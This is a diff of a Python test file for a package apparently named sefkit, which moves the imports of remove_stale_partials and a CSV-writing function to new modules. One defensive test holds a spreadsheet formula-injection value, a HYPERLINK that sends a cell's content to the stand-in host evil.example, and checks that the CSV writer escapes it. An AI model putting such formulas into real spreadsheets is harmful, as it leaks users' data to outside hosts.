@@ -107,7 +107,7 @@ def test_bad_requests_are_refused_before_any_kernel_starts(tmp_path, capsys, arg
 
 
 def test_half_written_folders_of_a_dead_run_are_cleared_but_a_live_ones_are_kept(tmp_path):
-    from sefkit.publish.batch import remove_stale_partials
+    from sefkit.publish.folder import remove_stale_partials
 
     dead = tmp_path / "alpha" / ".2025-10-31.partial-999999999"
     live = tmp_path / "alpha" / f".2025-10-31.partial-{os.getpid()}"
@@ -123,11 +123,11 @@ def test_gaps_csv_cells_are_never_formulas_when_opened_in_excel():
     import csv
     import io
 
-    from sefkit.publish.batch import _gaps_csv
+    from sefkit.publish.outputs import gaps_csv
 
     gap = {"type": "action_overdue", "severity": "medium", "criterion": "C-1", "annex_a": None,
            "description": "-1 is fine as text", "next_step": "@SUM(1+1)", "criteria": ["C-1"],
            "ref": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}
-    rows = list(csv.reader(io.StringIO(_gaps_csv([gap]))))
+    rows = list(csv.reader(io.StringIO(gaps_csv([gap]))))
     assert rows[1][7] == "'" + gap["ref"] and rows[1][5] == "'@SUM(1+1)" and rows[1][4] == "'-1 is fine as text"
     assert rows[1][:4] == ["action_overdue", "medium", "C-1", ""]
